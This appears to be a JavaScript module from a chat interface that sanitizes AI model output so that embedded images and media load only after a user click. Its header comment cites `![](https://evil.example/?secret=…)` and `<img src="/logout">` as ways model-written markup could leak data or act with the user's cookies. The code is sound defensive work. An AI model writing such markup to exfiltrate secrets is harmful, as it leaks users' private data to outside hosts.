// Resources named in model output load only when the user asks.
//
// A model can write `![](https://evil.example/?secret=…)`, `<img src="/logout">`
// or `<video poster=…>`: rendered as is, the browser would send that request
// with no one asking (data leaks out in the URL; a same-origin GET acts with
// the user's cookies). So every attribute that makes the browser fetch is
// taken out of sanitized model markup:
// - `src` / `poster` of images, video and audio are held aside (`data-gu-src`,
//   `data-gu-poster`): the element stays hidden behind a placeholder button,
//   "Load image from example.com", and a click loads it;
// - `srcset` (many URLs, no single one to ask about), `background`, SVG
//   `href`s other than `#fragment`s and CSS `url()`s in SVG paint attributes
//   are dropped: they are decoration, not content.
// `data:` URLs load directly: their bytes are in the message, nothing is
// requested (an SVG shown as an image runs no script and fetches nothing).
//
// A click allows that exact URL, not its origin (after allowing example.com
// once, a model could still write `https://example.com/?secret=…`). The
// allowed set belongs to the chat (one per widget model, found by the Chat's
// `_chat_key` trait: anywidget gives each view its own proxy of the model):
// every view of the chat, and every re-render of a message that streams,
// shows that URL directly. It lives in the page only: a reload asks again.

import { h } from "./dom.js";

const HELD = ["src", "poster"];
const MEDIA = new Set(["img", "video", "audio", "source", "track"]);
const DROPPED = ["srcset", "imagesrcset", "background", "lowsrc", "dynsrc", "ping", "action", "formaction"];
const CSS_PAINT = [
  "fill",
  "stroke",
  "filter",
  "mask",
  "clip-path",
  "marker-start",
  "marker-mid",
  "marker-end",
  "cursor",
  "color-profile",
];
const LINKS = new Set(["a", "area"]);
const LABEL = { img: "image", video: "video", audio: "audio" };

/** @typedef {{allows: (url: string) => boolean, allow: (url: string) => void}} Resources */

/** A fresh allowed set (a chat's; tests make their own). @returns {Resources} */
export function createResources() {
  const allowed = new Set();
  return {
    allows: (url) => allowed.has(absolute(url)),
    allow: (url) => void allowed.add(absolute(url)),
  };
}

/** @type {Map<string, Resources>} by chat key */
const perChat = new Map();
/** @type {WeakMap<object, Resources>} models without a key (tests, older kernels) */
const perModel = new WeakMap();

/** The allowed set of the chat `model` stands for, shared by all its views. */
export function resourcesFor(model) {
  const key = model?.get?.("_chat_key");
  const table = typeof key === "string" && key ? perChat : perModel;
  const id = table === perChat ? key : model;
  let resources = table.get(id);
  if (!resources) {
    resources = createResources();
    table.set(id, resources);
  }
  return resources;
}

function absolute(url) {
  try {
    return new URL(String(url).trim(), document.baseURI).href;
  } catch {
    return String(url).trim();
  }
}

/** True for a URL whose bytes are inline: showing it requests nothing. */
export function isInline(url) {
  return /^\s*data:/i.test(String(url));
}

/** Whether a CSS value may name something to fetch (url(), image-set(), escapes). */
function cssFetches(value) {
  if (/\\|image|src\s*\(|cross-fade|element\s*\(/i.test(value)) return true;
  for (const match of value.matchAll(/url\s*\(\s*['"]?([^'")]*)/gi)) {
    if (!match[1].trim().startsWith("#")) return true;
  }
  return false;
}

/**
 * Take the fetching attributes out of one sanitized element (a DOMPurify
 * `afterSanitizeAttributes` hook): held ones for media, dropped ones for the
 * rest. Links open in a new tab without an opener or referrer.
 * @param {Element} node @param {Resources | null} resources
 */
export function gateAttributes(node, resources) {
  // Most elements of a reply (p, li, strong, ...) carry no attribute at all.
  if (node.nodeType !== 1 || !node.hasAttributes()) return;
  // Our own markers are ours: a model writing them gets them removed.
  for (const name of node.getAttributeNames()) {
    if (name.startsWith("data-gu-")) node.removeAttribute(name);
  }
  const tag = node.localName;
  for (const name of DROPPED) node.removeAttribute(name);
  for (const name of HELD) {
    const value = node.getAttribute(name);
    if (value === null) continue;
    node.removeAttribute(name);
    if (isInline(value) || resources?.allows(value)) node.setAttribute(name, value);
    else if (MEDIA.has(tag)) {
      node.setAttribute(`data-gu-${name}`, value);
      node.setAttribute("data-gu-held", "");
    }
  }
  for (const name of CSS_PAINT) {
    const value = node.getAttribute(name);
    if (value !== null && cssFetches(value)) node.removeAttribute(name);
  }
  if (LINKS.has(tag) && (node.hasAttribute("href") || node.hasAttribute("xlink:href"))) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
    return;
  }
  for (const name of ["href", "xlink:href"]) {
    const value = node.getAttribute(name);
    if (value !== null && !value.trim().startsWith("#")) node.removeAttribute(name);
  }
}

/**
 * Hold back an element's source the way the sanitizer does (for elements
 * built by code from model values, such as the Image component's `src`);
 * `addPlaceholders` then adds its button.
 * @param {Element} el @param {string} url
 */
export function hold(el, url) {
  el.setAttribute("data-gu-src", url);
  el.setAttribute("data-gu-held", "");
}

/**
 * Put a placeholder button before each media element under `root` whose
 * source is held, and hide the element until the user loads it.
 * @param {ParentNode} root
 */
export function addPlaceholders(root) {
  for (const held of root.querySelectorAll("[data-gu-held]")) {
    // A <source>/<track> is loaded with its <video>/<audio>.
    const media = /** @type {HTMLElement} */ (held.closest("video, audio") ?? held);
    if (media.hasAttribute("data-gu-media") || !LABEL[media.localName]) continue;
    media.setAttribute("data-gu-media", "");
    const url = firstHeld(media);
    const button = h("button.gu-load-resource", {
      type: "button",
      "data-gu-load": true,
      title: url,
      text: `Load ${LABEL[media.localName]} from ${hostOf(url)}`,
    });
    media.hidden = true;
    media.before(button);
  }
}

function heldIn(media) {
  return [media, ...media.querySelectorAll("[data-gu-held]")].filter((el) =>
    el.hasAttribute("data-gu-held"),
  );
}

function firstHeld(media) {
  const el = heldIn(media)[0];
  return el ? (el.getAttribute("data-gu-src") ?? el.getAttribute("data-gu-poster") ?? "") : "";
}

function hostOf(url) {
  try {
    const parsed = new URL(url, document.baseURI);
    return parsed.host || parsed.protocol.replace(/:$/, "");
  } catch {
    return "an unknown address";
  }
}

/**
 * Load what a placeholder holds back: its element's held URLs become real
 * attributes and join the allowed set. The button only hides (views keep
 * references to the nodes they rendered).
 * @param {HTMLElement} button @param {Resources} resources
 */
export function loadHeld(button, resources) {
  const media = /** @type {HTMLElement | null} */ (button.nextElementSibling);
  if (!media || !media.hasAttribute("data-gu-media")) return;
  for (const el of heldIn(media)) {
    for (const name of HELD) {
      const value = el.getAttribute(`data-gu-${name}`);
      if (value === null) continue;
      resources.allow(value);
      el.removeAttribute(`data-gu-${name}`);
      el.setAttribute(name, value);
    }
    el.removeAttribute("data-gu-held");
  }
  media.removeAttribute("data-gu-media");
  media.hidden = false;
  button.hidden = true;
}

/**
 * Clicks on placeholders anywhere under `root` load them; placeholders of
 * URLs the chat allowed meanwhile load too. Returns a function that stops.
 * @param {HTMLElement} root @param {Resources} resources
 */
export function listenForLoads(root, resources) {
  const onClick = (event) => {
    const button = event.target?.closest?.("button[data-gu-load]");
    if (!button || !root.contains(button) || button.hidden) return;
    event.preventDefault(); // inside a link, the click loads; it does not navigate
    loadHeld(button, resources);
    for (const other of root.querySelectorAll("button[data-gu-load]:not([hidden])")) {
      if (!(other instanceof HTMLElement)) continue;
      const media = other.nextElementSibling;
      if (media && heldIn(media).every((el) => heldUrls(el).every((u) => resources.allows(u)))) {
        loadHeld(other, resources);
      }
    }
  };
  root.addEventListener("click", onClick);
  return () => root.removeEventListener("click", onClick);
}

function heldUrls(el) {
  return HELD.map((name) => el.getAttribute(`data-gu-${name}`)).filter((v) => v !== null);
}
